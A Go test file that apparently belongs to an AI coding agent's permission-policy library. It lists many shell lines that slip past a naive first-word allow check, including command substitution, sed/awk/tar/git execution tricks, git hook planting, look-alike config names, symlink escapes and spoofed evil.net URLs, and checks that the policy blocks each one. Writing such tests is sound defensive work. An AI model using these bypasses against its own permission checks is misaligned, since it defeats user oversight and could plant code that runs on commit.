package rules_test

import (
	"context"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/reins-agent/reins/policy"
	"github.com/reins-agent/reins/policy/rules"
)

// Each test shows that an attack works against a check that others have used, or without a check, and that the policy
// stops it. The attacks touch only files that the test created.

// naive allows a line by its first word, as agents have done.
func naive(line string) bool {
	word := strings.FieldsFunc(line, func(r rune) bool { return strings.ContainsRune(" \n;|&(=", r) })[0]
	return slices.Contains([]string{"[", "[[", "{", "awk", "cat", "command", "declare", "diff", "echo", "env", "find", "for", "git", "if", "ls", "mapfile", "printf", "read", "sed", "shopt", "sort", "tar", "test", "timeout", "trap", "true", "uniq", "x", "xargs"}, word)
}

// pwned runs a line with bash in a new directory and reports whether it created the file pwned.
func pwned(t *testing.T, line string) bool {
	t.Helper()
	dir := t.TempDir()
	setup := `cd "$0" && echo one > a && printf 'touch pwned\n' > x && chmod +x x`
	if strings.Contains(line, "git") {
		setup += " && git init -q ."
	}
	if strings.Contains(line, "tar") {
		setup += " && tar cf t.tar a"
	}
	if out, err := exec.Command("bash", "-c", setup, dir).CombinedOutput(); err != nil {
		t.Skipf("cannot set up the attack: %v: %s", err, out)
	}
	cmd := exec.Command("bash", "-c", line)
	cmd.Dir = dir
	cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + dir}
	_ = cmd.Run()
	_, err := os.Stat(filepath.Join(dir, "pwned"))
	return err == nil
}

// attackRules allow what developers usually allow.
func attackRules(t *testing.T) policy.Policy {
	t.Helper()
	return rules.Policy{Allow: list(t, "Bash(ls:*)", "Bash(echo:*)", "Bash(npm test:*)")}
}

func list(t *testing.T, texts ...string) (parsed []rules.Rule) {
	t.Helper()
	for _, s := range texts {
		r, err := rules.Parse(s)
		if err != nil {
			t.Fatal(err)
		}
		parsed = append(parsed, r)
	}
	return parsed
}

func testLines(t *testing.T, lines []string) {
	t.Helper()
	p, judge := newPlace(t), attackRules(t)
	for _, line := range lines {
		if !naive(line) {
			t.Errorf("%s\n\tdoes not pass the naive check", line)
		}
		if !pwned(t, line) {
			t.Errorf("%s\n\tdoes nothing: it is not an attack", line)
		}
		if d := judge.Decide(t.Context(), p.query(policy.ModeDefault, line)); d.Verdict == policy.Allow {
			t.Errorf("%s\n\tis allowed by %s", line, d.Rule)
		}
	}
}

func TestAttack_ShellParsing(t *testing.T) {
	testLines(t, []string{
		"ls; touch pwned", "ls && touch pwned", "ls nowhere || touch pwned", "ls | touch pwned", "ls & touch pwned", "ls\ntouch pwned", "ls >/dev/null;touch pwned", "ls # x\ntouch pwned",
		"echo $(touch pwned)", "echo `touch pwned`", `echo "$(touch pwned)"`, "echo ${x:-$(touch pwned)}", "cat ${x-<(touch pwned)}", "cat <(touch pwned)", "echo x > pwned", "echo x >| pwned", "echo x &> pwned", "echo x <> pwned",
		"cat <<EOF\n$(touch pwned)\nEOF", "cat <<'EOF'\nx\nEOF\ntouch pwned", "x='$(touch pwned)'; echo ${x@P}", "test -v 'a[$(touch pwned)]'", "[[ 'a[$(touch pwned)]' -eq 0 ]]", "[ -v 'a[$(touch pwned)]' ]", "echo $((a[$(touch pwned)]))",
		"printf -v 'a[$(touch pwned)]' x", "read 'a[$(touch pwned)]' < a", "declare -i x='a[$(touch pwned)]'", "ls() { touch pwned; }; ls", "shopt -s expand_aliases; alias ls='touch pwned'\nls", "trap 'touch pwned' EXIT", "mapfile -C 'touch pwned;:' -c 1 m < a",
		"for f in $(touch pwned); do :; done", "if touch pwned; then ls; fi", "{ touch pwned; }", "echo pwned | xargs touch", "env touch pwned", "timeout 5 touch pwned", "command touch pwned", `find . -maxdepth 0 -exec touch pwned \;`, "true;touch${IFS}pwned", "echo;{touch,pwned}", "echo;t\\ouch pwned", "echo;$'touch' pwned", "echo; x=touch; $x pwned",
		"echo x; eval 'touch pwned'", "echo 'touch pwned' | sh", "ls; . ./x", "ls; ./x", strings.Repeat("ls >/dev/null;", 60) + "touch pwned",
	})
}

func TestAttack_ProgramsThatOnlySeemToRead(t *testing.T) {
	testLines(t, []string{
		"sed -n '1w pwned' a", "sed '1e touch pwned' a", "sed 's/one/touch pwned/e' a", "sed -n '1!p;w pwned' a", `awk 'BEGIN { system("touch pwned") }'`, `awk 'BEGIN { print "x" > "pwned" }'`, `awk 'BEGIN { print "touch pwned" | "sh" }'`,
		"sort -o pwned a", "sort -uo pwned a", "sort --outp=pwned a", "uniq a pwned", "find . -maxdepth 0 -fprint pwned", `find . -name a -execdir touch pwned \;`, "tar tf t.tar --checkpoint=1 --checkpoint-action=exec=./x", "tar xf t.tar --to-command='touch pwned'",
		"git diff --no-index --output=pwned a x", "git -c alias.x='!touch pwned' x", "git -c core.fsmonitor='touch pwned;:' status", "git grep --no-index -O./x one", "diff a x > pwned", "xargs -a a -I{} touch pwned",
	})
}

func TestAttack_PrefixPathCheck(t *testing.T) {
	p := newPlace(t)
	evil := p.dir + "-evil"
	if err := os.MkdirAll(evil, 0o755); err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(evil, "secret")
	if err := os.WriteFile(file, nil, 0o644); err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(file, p.dir) {
		t.Fatal("the naive check sees the attack")
	}
	for _, q := range []policy.Query{
		{Tool: "read_file", Workspace: p.workspace, Accesses: []policy.Access{{Kind: policy.Read, Target: file}}},
		p.query(policy.ModeDefault, "cat "+file), p.query(policy.ModeDefault, "cat ../repo-evil/secret"), p.query(policy.ModeDefault, "cd ../repo-evil && cat secret"),
	} {
		if d := (rules.Policy{}).Decide(t.Context(), q); d.Verdict != policy.Ask {
			t.Errorf("%v: got %v, want ask", q.Accesses, d.Verdict)
		}
	}
}

func TestAttack_WorkingDirectoryThatTheModelChooses(t *testing.T) {
	p := newPlace(t)
	out := filepath.Dir(p.dir)
	cmd := exec.Command("cat", "secret.txt")
	cmd.Dir = out
	if b, err := cmd.Output(); err != nil || string(b) != "secret" {
		t.Fatalf("the attack does not work: %q (%v)", b, err)
	}
	allow := rules.Policy{Allow: list(t, "Bash(npm test:*)")}
	for _, dir := range []string{out, "/", filepath.Join(p.dir, "link_out"), filepath.Join(p.dir, "..")} {
		for _, command := range []string{"cat secret.txt", "ls", "npm test"} {
			q := p.query(policy.ModeDefault, command)
			q.Accesses[0].Dir = dir
			if d := allow.Decide(t.Context(), q); d.Verdict != policy.Ask {
				t.Errorf("%s in %s: got %v (%s), want ask", command, dir, d.Verdict, d.Reason)
			}
		}
	}
}

func TestAttack_OwnConfigurationUnderAnotherName(t *testing.T) {
	p := newPlace(t)
	for _, name := range []string{".Reins/config.toml", ".REINS/config.toml", ".ReInS/config.toml", ".rein\u017f/config.toml", ".re\u0131ns/../.reins/x", ".\uff52eins/config.toml", ".re\u200dins/config.toml", ".reins\ufe0f/config.toml",
		".Claude/settings.json", ".GIT/config", ".Git/hooks/pre-commit", ".g\u200cit/config", "git~1/config", ".git./config", ".git /config", ".git::$INDEX_ALLOCATION/config", ".vSCode/tasks.json", ".MCP.json", ".ENVRC"} {
		file := p.dir + "/" + name
		if name != ".re\u0131ns/../.reins/x" && strings.Contains(file, "/.reins/") {
			t.Fatalf("%s: a plain comparison sees the attack", name)
		}
		for _, mode := range policy.Modes {
			q := policy.Query{Tool: "write_file", Mode: mode, Workspace: p.workspace, Accesses: []policy.Access{{Kind: policy.Write, Target: file}}}
			if d := (rules.Policy{Allow: list(t, "Edit", "Bash(echo:*)")}).Decide(t.Context(), q); d.Verdict != policy.Deny {
				t.Errorf("%s, mode %s: got %v (%s), want deny", name, mode, d.Verdict, d.Reason)
			}
			command := p.query(mode, "echo x > '"+name+"'")
			if d := (rules.Policy{Allow: list(t, "Edit", "Bash(echo:*)")}).Decide(t.Context(), command); d.Verdict == policy.Allow {
				t.Errorf("echo x > %s, mode %s: allowed", name, mode)
			}
		}
	}
}

func TestAttack_ProtectedFileThatDoesNotExistYet(t *testing.T) {
	dir := t.TempDir()
	attack := `cd "$0" && git init -q . && rm -rf .git/hooks && mkdir .git/hooks && printf '#!/bin/sh\ntouch pwned\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit &&
		echo x > a && git add a && git -c user.name=a -c user.email=a@example.com commit -qm x`
	if out, err := exec.Command("bash", "-c", attack, dir).CombinedOutput(); err != nil {
		t.Skipf("git is missing or cannot commit: %v: %s", err, out)
	}
	if _, err := os.Stat(filepath.Join(dir, "pwned")); err != nil {
		t.Fatal("the hook did not run: it is not an attack")
	}
	p := newPlace(t)
	for _, name := range []string{".git/hooks/pre-commit", ".git/hooks/new/x", "sub/.git/config", ".reins/config.toml", ".vscode/tasks.json", ".husky/pre-commit", ".mcp.json", ".envrc"} {
		if _, err := os.Stat(filepath.Join(p.dir, name)); err == nil {
			t.Fatalf("%s exists", name)
		}
		for _, mode := range policy.Modes {
			for _, command := range []string{"echo x > " + name, "tee " + name + " < README.md", "cp README.md " + name, "mkdir -p " + name, "touch " + name, "sort -o " + name + " data.txt", "ln -s ../README.md " + name} {
				if d := (rules.Policy{}).Decide(t.Context(), p.query(mode, command)); d.Verdict != policy.Deny {
					t.Errorf("%s, mode %s: got %v (%s), want deny", command, mode, d.Verdict, d.Reason)
				}
			}
		}
	}
}

func TestAttack_ProtectedPathsHoldInEveryMode(t *testing.T) {
	p, n := newPlace(t), 0
	for _, l := range commandLines(t) {
		if l.want != "xxxx" {
			continue
		}
		n++
		for _, mode := range policy.Modes {
			q := p.query(mode, l.command)
			q.Workspace.Sandboxed = true
			everything := rules.Policy{Allow: list(t, "Bash", "Edit", "Read")}
			if d := everything.Decide(t.Context(), q); d.Verdict != policy.Deny {
				t.Errorf("%s, mode %s: got %v (%s), want deny", l.command, mode, d.Verdict, d.Reason)
			}
		}
	}
	if n < 50 {
		t.Errorf("only %d lines write protected paths", n)
	}
}

func TestAttack_SymbolicLinks(t *testing.T) {
	p := newPlace(t)
	if b, err := os.ReadFile(filepath.Join(p.dir, "link_out", "secret.txt")); err != nil || string(b) != "secret" {
		t.Fatalf("the link does not lead outside: %q (%v)", b, err)
	}
	if b, err := exec.Command("bash", "-c", `cd "$0/src/up" && cat ../secret.txt`, p.dir).Output(); err != nil || string(b) != "secret" {
		t.Fatalf("the parent of a link does not lead outside: %q (%v)", b, err)
	}
	deny := rules.Policy{Deny: list(t, "Read(.env)", "Edit(vendor/**)")}
	for command, want := range map[string]policy.Verdict{
		"cat link_out/secret.txt": policy.Ask, "cat link_out/*": policy.Ask, "grep -R secret .": policy.Deny, "grep -R secret docs link_out": policy.Ask, "cd link_out && cat secret.txt": policy.Ask, "cd src/up && cat ../secret.txt": policy.Ask,
		"cat src/up/../secret.txt": policy.Ask, "cat envlink": policy.Deny, "cat src/up/.env": policy.Deny, "cat e*link": policy.Deny, "echo x > link_out/new": policy.Ask, "echo x > hook": policy.Deny, "echo x > gitdir/new": policy.Deny,
		"echo x > vendorlink/new": policy.Deny, "echo x > src/up/vendor/new": policy.Deny, "rm -r link_out/": policy.Ask, "cp envlink x": policy.Deny, "git -C link_out log": policy.Ask,
	} {
		if d := deny.Decide(t.Context(), p.query(policy.ModeAcceptEdits, command)); d.Verdict != want {
			t.Errorf("%s: got %v (%s), want %v", command, d.Verdict, d.Reason, want)
		}
	}
}

func TestAttack_NamesThatSplitIntoOtherPaths(t *testing.T) {
	p := newPlainPlace(t)
	for _, name := range []string{"docs/a /etc/passwd", "docs/b ../../secret.txt"} {
		d := filepath.Join(p.dir, name[:strings.LastIndexByte(name, '/')])
		if strings.HasPrefix(name, "docs/b") {
			d = filepath.Join(p.dir, "docs", "b ..")
		}
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(p.dir, "docs", "b ..", "secret.txt"), nil, 0o644); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command("bash", "-c", "cat $(find docs -name secret.txt) 2>/dev/null")
	cmd.Dir = filepath.Join(p.dir) // docs/b and ../secret.txt
	if b, _ := cmd.Output(); string(b) != "secret" {
		t.Fatalf("the attack does not work: %q", b)
	}
	for _, command := range []string{"cat $(find docs -name secret.txt)", "find docs -type d | xargs cat", "for f in $(find docs); do cat $f; done", "git ls-files | xargs cat"} {
		if d := (rules.Policy{}).Decide(t.Context(), p.query(policy.ModeDefault, command)); d.Verdict != policy.Ask {
			t.Errorf("%s: got %v (%s), want ask", command, d.Verdict, d.Reason)
		}
	}
}

func TestAttack_DomainCheck(t *testing.T) {
	allow := rules.Policy{Allow: list(t, "WebFetch(domain:example.com)", "WebFetch(domain:*.example.org)"), Deny: list(t, "WebFetch(domain:evil.example.org)")}
	decide := func(target string) policy.Verdict {
		return allow.Decide(context.Background(), policy.Query{Tool: "web_fetch", Accesses: []policy.Access{{Kind: policy.Connect, Target: target}}}).Verdict
	}
	for _, target := range []string{"https://example.com.evil.net/", "https://example.com@evil.net/", "https://example.com:x@evil.net/", "https://example.community/", "https://evilexample.com/", "https://evil.net/example.com", "https://evil.net/?https://example.com", "https://evil.net#example.com", "https://www.example.com/", "https://example.org/", "https://xexample.org/", "https://a.example.org.evil.net/", "example.com.evil.net:443", "https://evil.net?@example.com/", "https://evil.net#@example.com/", "evil.net/x://example.com/", "https://evil.net:443?x://example.com", `https://evil.net\@example.com/`} {
		u, err := url.Parse(target)
		if err == nil && u.Hostname() == "example.com" {
			t.Errorf("%s: connects to example.com: it is not an attack", target)
		}
		if got := decide(target); got == policy.Allow {
			t.Errorf("%s: allowed", target)
		}
	}
	if !strings.HasPrefix("https://example.com.evil.net/", "https://example.com") {
		t.Error("the naive check sees the attack")
	}
	for _, target := range []string{"https://example.com/x", "https://EXAMPLE.com:443/", "example.com:443", "https://example.com./", "https://user@example.com/", "https://a.b.example.org/"} {
		if got := decide(target); got != policy.Allow {
			t.Errorf("%s: got %v, want allow", target, got)
		}
	}
	for _, target := range []string{"https://evil.example.org/", "https://x.evil.example.org/", "evil.example.org.:80", "https://EVIL.example.org"} {
		if got := decide(target); got != policy.Deny {
			t.Errorf("%s: got %v, want deny", target, got)
		}
	}
}

func TestAttack_BypassModeIgnoresTheListOfTools(t *testing.T) {
	p := newPlace(t)
	run := p.query(policy.ModeBypass, "make")
	if d := (rules.Policy{}).Decide(t.Context(), run); d.Verdict != policy.Allow {
		t.Fatalf("bypass mode alone does not allow commands: %v", d.Verdict)
	}
	for name, q := range map[string]policy.Policy{
		"only listed tools": policy.All(policy.Only("read_file"), rules.Policy{}), "all but listed tools": policy.All(policy.Except("shell"), rules.Policy{}), "read only": policy.All(rules.ReadOnly(), rules.Policy{}),
		"a deny rule for the tool": rules.Policy{Deny: list(t, "shell")}, "a deny rule for commands": rules.Policy{Deny: list(t, "Bash")}, "a deny rule for the command": rules.Policy{Deny: list(t, "Bash(make:*)"), Allow: list(t, "Bash")},
	} {
		if d := q.Decide(t.Context(), run); d.Verdict != policy.Deny {
			t.Errorf("%s: got %v (%s), want deny", name, d.Verdict, d.Reason)
		}
	}
}

func TestAttack_ProtectedPathInsideAProgramThatARuleAllows(t *testing.T) {
	p := newPlace(t)
	allow := rules.Policy{Allow: list(t, "Bash(sed:*)", "Bash(awk:*)", "Bash(python3:*)", "Bash(node:*)", "Bash(tar:*)", "Bash(curl:*)")}
	for _, command := range []string{
		"sed -n 'w .git/hooks/pre-commit' README.md", "sed -n 's/x/y/w.git/hooks/pre-commit' README.md", `awk '{ print > ".git/hooks/pre-commit" }' README.md`, `python3 -c "open('.git/hooks/pre-commit', 'w')"`,
		`node -e 'fs.writeFileSync(".git/config", "x")'`, "tar xf x.tar -C .git/hooks", "curl -o .git/hooks/pre-commit http://example.com", "curl -o.bashrc http://example.com", "curl --output=.git/config http://example.com",
	} {
		for _, mode := range policy.Modes {
			if d := allow.Decide(t.Context(), p.query(mode, command)); d.Verdict == policy.Allow {
				t.Errorf("%s, mode %s: allowed by %s", command, mode, d.Rule)
			}
		}
	}
	for _, command := range []string{"sed -n 's/.git/x/p' README.md", `python3 -c "print('.github')"`, "tar xf x.tar build"} {
		if d := allow.Decide(t.Context(), p.query(policy.ModeDefault, command)); d.Verdict != policy.Allow {
			t.Errorf("%s: got %v (%s), want allow", command, d.Verdict, d.Reason)
		}
	}
}

func TestAttack_NamesThatBecomeOtherPaths(t *testing.T) {
	for dir, lines := range map[string][]string{
		"x /etc":       {"find . -type f | xargs cat", "cat $(find . -type f)", "find . | xargs cat"},
		`.\./out`:      {"find . -type f | xargs cat", `find . -type f | while read f; do cat "$f"; done`},
		`".."/out`:     {"find . -type f | xargs cat"},
		`'..'/out`:     {"find . -type f | xargs cat", "git ls-files | xargs cat"},
		"x ../out":     {"find . -type f | xargs cat"},
		".*/out":       {"cat $(find . -type f)"},
		"plain/x/deep": nil,
	} {
		p := newPlainPlace(t)
		if err := os.MkdirAll(filepath.Join(p.dir, dir), 0o755); err != nil {
			t.Fatal(err)
		}
		for _, line := range lines {
			if d := (rules.Policy{}).Decide(t.Context(), p.query(policy.ModeDefault, line)); d.Verdict != policy.Ask {
				t.Errorf("%s with a directory %q: got %v (%s), want ask", line, dir, d.Verdict, d.Reason)
			}
		}
		for _, line := range []string{"find . -type f -print0 | xargs -0 cat", "cat README.md"} {
			if d := (rules.Policy{}).Decide(t.Context(), p.query(policy.ModeDefault, line)); d.Verdict != policy.Allow {
				t.Errorf("%s with a directory %q: got %v (%s), want allow", line, dir, d.Verdict, d.Reason)
			}
		}
	}
}
